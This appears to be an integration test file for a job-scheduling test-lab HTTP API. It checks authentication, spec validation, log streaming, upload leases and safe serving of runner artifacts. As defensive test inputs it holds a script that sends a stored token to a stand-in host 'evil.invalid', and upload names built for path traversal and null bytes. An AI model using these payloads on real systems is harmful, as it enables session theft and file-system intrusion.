/**
 * The HTTP API driven over HTTP: authentication and roles, bad input with paths, a
 * submission from POST to result, live log follow, the lease checks on uploads, and the
 * control worker's record of a health check (its plan built again, not trusted).
 */
import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { healthCheckSubmission } from '../../src/domain/health-check.js';
import { submissionWorkflowId } from '../../src/domain/ids.js';
import { validateSpec } from '../../src/domain/parse-spec.js';
import { buildPlan } from '../../src/domain/plan.js';
import { osTest, TestLab, waitFor } from '../helpers/lab.js';

let lab: TestLab;
let url: string;
beforeAll(async () => {
  lab = await TestLab.start({
    name: 'api',
    hosts: [{ id: 'a1' }],
    env: { TESTBAY_MAX_ARTIFACT_BYTES: String(1024 * 1024) },
  });
  url = lab.api.baseUrl;
});
afterAll(async () => {
  await lab?.stop();
});

const call = (method: string, path: string, token?: string, body?: unknown, headers: Record<string, string> = {}) =>
  fetch(`${url}/api/v1${path}`, {
    method,
    headers: {
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      ...(body !== undefined && typeof body !== 'string' ? { 'content-type': 'application/json' } : {}),
      ...headers,
    },
    ...(body !== undefined ? { body: typeof body === 'string' ? body : JSON.stringify(body) } : {}),
  });

describe('HTTP API', () => {
  it('refuses requests without a token (401) and with the wrong role (403)', async () => {
    expect((await call('GET', '/submissions')).status).toBe(401);
    expect((await call('GET', '/submissions', 'not-a-token')).status).toBe(401);
    const asHost = await call('POST', '/submissions', lab.tokens.host, { jobs: [osTest('x')] });
    expect(asHost.status).toBe(403);
    expect(((await asHost.json()) as { error: string }).error).toMatch(/a host token may not submit/);
    expect((await call('POST', '/hosts/a1/maintenance', lab.tokens.submit, { on: true })).status).toBe(403);
    expect((await call('PUT', '/internal/jobs/abcdef.1', lab.tokens.operate, {})).status).toBe(403);
  });

  it('answers a bad spec with 400, the field path and the reason, and starts nothing', async () => {
    const before = (await lab.api.submissions()).submissions.length;
    const res = await call('POST', '/submissions', lab.tokens.submit, {
      jobs: [
        { name: 'a', workerClass: 'local', runner: { command: [] } },
        { name: 'b', workerClass: 'local', runner: { command: ['x'] }, startAfter: ['zzz'] },
      ],
    });
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({
      error: 'invalid job spec',
      issues: [{ path: ['jobs', 0, 'runner', 'command'], message: 'needs at least the program to run' }],
    });
    const yaml = await call(
      'POST',
      '/submissions',
      lab.tokens.submit,
      'jobs:\n  - name: b\n    workerClass: local\n    runner: {command: [x]}\n    startAfter: [zzz]\n',
      { 'content-type': 'application/yaml' },
    );
    expect(await yaml.json()).toEqual({
      error: 'invalid job spec',
      issues: [{ path: ['jobs', 0, 'startAfter', 0], message: 'unknown job `zzz`' }],
    });
    const broken = await call('POST', '/submissions', lab.tokens.submit, '{"jobs": [', {
      'content-type': 'application/json',
    });
    expect(broken.status).toBe(400);
    const capped = await call('POST', '/submissions', lab.tokens.submit, {
      jobs: [osTest('x', {}, { maxRetries: 50 })],
    });
    expect(await capped.json()).toEqual({
      error: 'invalid job spec',
      issues: [{ path: ['jobs', 0, 'maxRetries'], message: "50 is above this server's cap of 5" }],
    });
    expect((await lab.api.submissions()).submissions.length).toBe(before);
  });

  it('takes a YAML submission to its result and serves its log live from the first byte', async () => {
    const res = await call(
      'POST',
      '/submissions',
      lab.tokens.submit,
      'name: yaml\njobs:\n  - name: y\n    workerClass: local\n    runner: { command: [os-test] }\n    settings: { MODULES: "boot,login", MODULE_MS: 400 }\n',
      { 'content-type': 'application/yaml' },
    );
    expect(res.status).toBe(201);
    const created = (await res.json()) as { id: string; jobs: { id: string; name: string }[] };
    expect(created.jobs).toEqual([{ id: `${created.id}.1`, name: 'y' }]);
    let text = '';
    const result = await lab.submitter.followLog(created.jobs[0]!.id, (t) => (text += t));
    expect(result, JSON.stringify(result)).toEqual({ kind: 'passed' });
    expect(text).toMatch(/^.*\[runner\] job y/);
    expect(text).toMatch(/\[login\] ok\n.*all modules passed\n$/);
    expect(text).toBe(await lab.api.log(created.jobs[0]!.id));
    const view = await lab.waitForSubmission(created.id);
    expect(view).toMatchObject({ id: created.id, name: 'yaml', state: 'done', result: 'passed' });
    const listed = await call('GET', `/submissions?result=passed&q=yaml`, lab.tokens.submit);
    expect(((await listed.json()) as { submissions: { id: string }[] }).submissions.map((s) => s.id)).toContain(
      created.id,
    );
  });

  it('filters submissions by host and state, a running one by the host it runs on', async () => {
    const listed = async (query: string) =>
      (
        (await (await call('GET', `/submissions?${query}`, lab.tokens.submit)).json()) as {
          submissions: { id: string; hosts: string[] }[];
        }
      ).submissions;
    const ids = async (query: string) => (await listed(query)).map((s) => s.id);
    const { id, jobs } = await lab.submit({ name: 'filtered', jobs: [osTest('stays', { HANG_MODULE: 'login' })] });
    await waitFor('the job to run', async () => (await lab.api.job(jobs[0]!.id)).state === 'running');
    expect(await ids('host=a1')).toContain(id);
    expect(await ids('host=a1&state=running')).toContain(id);
    // The host shows the job it runs (not its recipe set's label); the lab view may be up to
    // half a second old (the API shares one scheduler query between readers).
    type Hosts = {
      hosts: { id: string; currentJob?: { id: string; name: string; state: string; submissionId: string } }[];
    };
    const current = await waitFor(
      'a1 to show its job',
      async () =>
        ((await (await call('GET', '/hosts', lab.tokens.submit)).json()) as Hosts).hosts.find((h) => h.id === 'a1')
          ?.currentJob,
      5_000,
    );
    expect(current).toMatchObject({ id: jobs[0]!.id, name: 'stays', state: 'running', submissionId: id });
    expect((await listed('state=running')).find((s) => s.id === id)?.hosts).toEqual(['a1']);
    expect(await ids('host=a2')).not.toContain(id);
    expect(await ids('state=done')).not.toContain(id);
    expect(await ids('host=a1&state=done')).not.toContain(id);
    await lab.submitter.cancelSubmission(id, 'filter test');
    await lab.waitForSubmission(id);
    await waitFor(
      'a1 to show no job',
      async () => (await lab.api.hosts()).hosts.find((h) => h.id === 'a1')?.currentJob === undefined,
      5_000,
    );
    expect(await ids('host=a1&state=done')).toContain(id);
    expect(await ids('host=a1&state=done&result=cancelled&q=filtered')).toEqual([id]);
    expect(await ids('state=running')).not.toContain(id);
    expect(await ids('host=a2&state=done')).not.toContain(id);
    // A batch run's hosts count too, though its batches are in no job of the final view.
    const batch = await lab.run({
      name: 'filtered-batch',
      batchRuns: [
        {
          name: 'suite',
          workerClass: 'local',
          runner: { command: ['batch-test'] },
          settings: { TEST_MS: '5' },
          batchSize: 5,
          tests: ['t1', 't2'],
        },
      ],
    });
    expect(await ids('host=a1&q=filtered-batch')).toEqual([batch.id]);
    expect(await ids('q=suite&state=done')).toContain(batch.id);
  });

  it('answers unknown ids with 404 and malformed ones with 400', async () => {
    expect((await call('GET', '/submissions/zzzzzzzzzzzz', lab.tokens.submit)).status).toBe(404);
    expect((await call('GET', '/submissions/..%2Fetc', lab.tokens.submit)).status).toBe(400);
    expect((await call('GET', '/jobs/zzzzzzzzzzzz.1', lab.tokens.submit)).status).toBe(404);
  });

  it('serves what a runner wrote so that it cannot run script on the API origin, and takes ?token= only on event streams', async () => {
    const { id, jobs } = await lab.submit({ jobs: [osTest('uploads', { HANG_MODULE: 'login' })] });
    const jobId = jobs[0]!.id;
    await waitFor('the job to run', async () => (await lab.api.job(jobId)).state === 'running');
    const record = (await lab.store.getJob(jobId))!;
    const lease = { 'x-testbay-lease': record.leaseToken, 'content-type': 'application/octet-stream' };
    const script = '<script>fetch("//evil.invalid/?t=" + localStorage["testbay.token"])</script>';
    const uploads: Record<string, string> = {
      'x.html': `<!doctype html>${script}`,
      'pic.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage["testbay.token"])</script></svg>`,
      'shot.png': `<html>${script}</html>`,
      'notes.txt': `<html>${script}</html>`,
      'report.xml': '<testsuite/>',
    };
    for (const [name, body] of Object.entries(uploads))
      expect((await call('PUT', `/jobs/${jobId}/artifacts/${name}`, lab.tokens.host, body, lease)).status, name).toBe(
        201,
      );

    const served = async (name: string) => {
      const res = await call('GET', `/jobs/${jobId}/artifacts/${name}`, lab.tokens.submit);
      expect(res.status, name).toBe(200);
      expect(await res.text(), name).toBe(uploads[name]);
      expect(res.headers.get('x-content-type-options'), name).toBe('nosniff');
      expect(res.headers.get('content-security-policy'), name).toMatch(/^sandbox; default-src 'none'/);
      return { type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition') };
    };
    // Anything that could be a page is a download, typed as bytes.
    expect(await served('x.html')).toEqual({
      type: 'application/octet-stream',
      disposition: `attachment; filename="x.html"; filename*=UTF-8''x.html`,
    });
    expect(await served('pic.svg')).toEqual({
      type: 'application/octet-stream',
      disposition: `attachment; filename="pic.svg"; filename*=UTF-8''pic.svg`,
    });
    expect((await served('report.xml')).disposition).toMatch(/^attachment; /);
    // Raster images and plain text are inline, under the type of their extension, never sniffed.
    expect(await served('shot.png')).toEqual({ type: 'image/png', disposition: 'inline' });
    expect(await served('notes.txt')).toEqual({ type: 'text/plain; charset=utf-8', disposition: 'inline' });
    const log = await call('GET', `/jobs/${jobId}/log`, lab.tokens.submit);
    expect(log.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(log.headers.get('x-content-type-options')).toBe('nosniff');
    expect(log.headers.get('content-security-policy')).toMatch(/^sandbox/);
    await log.text();

    // A token in a URL is refused everywhere but on the two event streams.
    const query = (p: string) => fetch(`${url}/api/v1${p}${p.includes('?') ? '&' : '?'}token=${lab.tokens.operate}`);
    const refused = await query('/submissions');
    expect(refused.status).toBe(401);
    expect(((await refused.json()) as { error: string }).error).toMatch(
      /\?token= is only accepted by the event streams/,
    );
    expect((await query(`/jobs/${jobId}/artifacts/shot.png`)).status).toBe(401);
    expect((await query(`/jobs/${jobId}/log`)).status).toBe(401);
    expect((await query(`/jobs/${jobId}`)).status).toBe(401);
    expect((await fetch(`${url}/metrics?token=${lab.tokens.operate}`)).status).toBe(401);
    for (const stream of ['/events', `/jobs/${jobId}/log?follow=1`]) {
      const controller = new AbortController();
      const res = await fetch(`${url}/api/v1${stream}${stream.includes('?') ? '&' : '?'}token=${lab.tokens.submit}`, {
        signal: controller.signal,
      });
      expect(res.status, stream).toBe(200);
      expect(res.headers.get('content-type'), stream).toMatch(/^text\/event-stream/);
      controller.abort();
    }

    // The dashboard's pages forbid inline and foreign script.
    const page = await fetch(`${url}/jobs/${jobId}`);
    expect(page.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(page.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(page.headers.get('x-frame-options')).toBe('DENY');
    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
    await page.text();

    await lab.submitter.cancelSubmission(id);
    await lab.waitForSubmission(id);
  });

  it('lets a host write only with the current lease token of an open job, inside the job folder', async () => {
    const { id, jobs } = await lab.submit({ jobs: [osTest('held', { HANG_MODULE: 'login' })] });
    const jobId = jobs[0]!.id;
    await waitFor('the job to run', async () => (await lab.api.job(jobId)).state === 'running');
    const record = (await lab.store.getJob(jobId))!;
    const lease = { 'x-testbay-lease': record.leaseToken, 'content-type': 'application/octet-stream' };
    const put = (name: string, body = 'x', headers: Record<string, string> = lease, token = lab.tokens.host) =>
      call('PUT', `/jobs/${jobId}/artifacts/${name}`, token, body, headers);

    expect(
      (
        await call('POST', `/jobs/${jobId}/log?offset=0`, lab.tokens.host, 'x', {
          'content-type': 'application/octet-stream',
        })
      ).status,
    ).toBe(400);
    expect(
      (
        await call('POST', `/jobs/${jobId}/log?offset=0`, lab.tokens.host, 'x', {
          ...lease,
          'x-testbay-lease': `${record.leaseToken}0`,
        })
      ).status,
    ).toBe(409);
    expect((await put('ok.txt')).status).toBe(201);
    expect((await put('..%2F..%2Fescape.txt')).status).toBe(400);
    expect((await put('%2Fetc%2Fpasswd')).status).toBe(400);
    expect((await put('a%00b.txt')).status).toBe(400);
    expect((await put('.hidden')).status).toBe(400);
    const twoMegabytes = 'x'.repeat(2 * 1024 * 1024);
    expect((await put('big.bin', twoMegabytes)).status).toBe(413);
    const chunked = await fetch(`${url}/api/v1/jobs/${jobId}/artifacts/big-stream.bin`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${lab.tokens.host}`, ...lease },
      body: new Blob([twoMegabytes]).stream(),
      duplex: 'half',
    } as unknown as RequestInit);
    expect(chunked.status).toBe(413);
    expect((await lab.api.job(jobId)).artifacts.map((a) => a.name)).toEqual(['ok.txt']);
    await expect(fs.access(path.join(lab.dir, 'escape.txt'))).rejects.toThrow();
    await expect(fs.access(path.join(lab.dir, 'objects', 'escape.txt'))).rejects.toThrow();
    expect((await put('ok.txt', 'x', lease, lab.tokens.submit)).status).toBe(403);

    await lab.submitter.cancelSubmission(id);
    await lab.waitForSubmission(id);
    // The job has ended: its lease no longer writes anything.
    expect((await put('late.txt')).status).toBe(409);
  });

  it("stores a health check's record only with the plan its submission makes, and refuses a malformed one with the path", async () => {
    const checked = validateSpec({
      jobs: [
        osTest(
          'check',
          { MODULES: 'boot' },
          {
            workerClass: 'local',
            hostRequires: ['arch != s390x'],
            assets: [{ url: 'file:///srv/a.img', sha256: 'a'.repeat(64) }],
            tests: { git: 'https://example.test/t.git' },
            reserve: { when: 'failed' },
          },
        ),
      ],
    });
    if (!checked.ok) throw new Error(JSON.stringify(checked.issues));
    const submission = healthCheckSubmission(
      { local: checked.submission.jobs[0]! },
      { id: 'a1', workerClasses: ['local'] },
      'gpu',
    )!;
    const record = (id: string, overrides: Record<string, unknown> = {}) => ({
      id,
      createdAt: new Date().toISOString(),
      workflowId: submissionWorkflowId(id),
      name: submission.name,
      submission,
      plan: buildPlan(submission),
      ...overrides,
    });
    const put = (body: { id: string }) =>
      call('PUT', `/internal/submissions/${body.id}/record`, lab.tokens.control, body);

    const good = record('hcrecord0000001');
    expect((await put(good)).status).toBe(204);
    const stored = await lab.store.getSubmission(good.id);
    expect(stored).toMatchObject({ id: good.id, name: 'health check of a1', workflowId: good.workflowId });
    expect(stored!.submission).toEqual(submission);
    expect(stored!.plan).toEqual(good.plan);
    expect(await lab.api.plan(good.id)).toEqual(good.plan);

    // The plan is built again from the submission: a body with another one is refused, and nothing is stored.
    const forged = record('hcrecord0000002', {
      plan: { ...good.plan, recipeSets: good.plan.recipeSets.map((s) => ({ ...s, priority: 1000 })) },
    });
    const refused = await put(forged);
    expect(refused.status).toBe(400);
    expect(await refused.json()).toEqual({
      error: 'invalid body',
      issues: [{ path: ['plan'], message: 'differs from the plan of the submission (buildPlan)' }],
    });
    expect(await lab.store.getSubmission(forged.id)).toBeUndefined();

    const malformed = record('hcrecord0000003', {
      submission: { ...submission, jobs: [{ ...submission.jobs[0]!, timeoutMs: 'x' }] },
    });
    const bad = await put(malformed);
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({
      error: 'invalid body',
      issues: [{ path: ['submission', 'jobs', 0, 'timeoutMs'] }],
    });
    expect(await lab.store.getSubmission(malformed.id)).toBeUndefined();
  });
});
